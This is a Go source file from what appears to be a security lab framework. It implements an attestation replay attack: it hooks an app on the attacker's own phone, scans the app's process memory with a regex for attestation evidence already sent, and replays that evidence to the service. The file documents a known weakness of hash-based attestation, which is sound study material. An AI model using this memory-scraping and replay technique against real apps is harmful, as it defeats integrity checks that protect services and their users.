package appside

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"regexp"

	"keyladder/mobileclient/attacker/attack"
	"keyladder/mobileclient/attacker/debugger"
	"keyladder/stages/mechanism/attestation"
)

// sentEvidence is what an app sends to the attestation service.
var sentEvidence = regexp.MustCompile(`\{"measurement":"[0-9a-f]{64}"[^{}]{0,128}(?:\{[^{}]{0,256}\})?\}`)

// AttestationReplay sends again what the genuine app has sent to the attestation service: the
// evidence lies in the memory of the app on the attacker's own phone. A hash is the same each time, so
// it is as good the second time. An answer to a challenge is one to that challenge.
//
//keyladder:code attack-attestation-replay
func AttestationReplay(ctx context.Context, g *attack.Given) (attack.Result, error) {
	phone, found, err := g.Hook(ctx)
	if err != nil {
		return attack.Stopped(err)
	}
	defer phone.Close()
	tries, err := g.Identities(found.OfApp()...)
	if err != nil {
		return attack.Result{}, err
	}
	if len(tries) == 0 {
		return attack.Result{}, errors.New("the app's own secret was not found in its memory")
	}
	var sent *attestation.Evidence
	_, err = debugger.EachWritable(ctx, phone.App.PID(), func(_ uint64, data []byte) {
		for _, text := range sentEvidence.FindAll(data, -1) {
			var evidence attestation.Evidence
			if json.Unmarshal(text, &evidence) == nil {
				sent = &evidence
			}
		}
	})
	if err != nil {
		return attack.Result{}, fmt.Errorf("read the app's memory: %w", err)
	}
	if sent == nil {
		return attack.Result{}, errors.New("what the app has sent to the attestation service was not found in its memory")
	}
	g.Say("In the app's memory: the evidence that it has sent to the attestation service a moment ago. Send it again, as it is.")
	return g.RobAttested(ctx, tries[0], func(attestation.Challenge) (attestation.Evidence, error) { return *sent, nil })
}
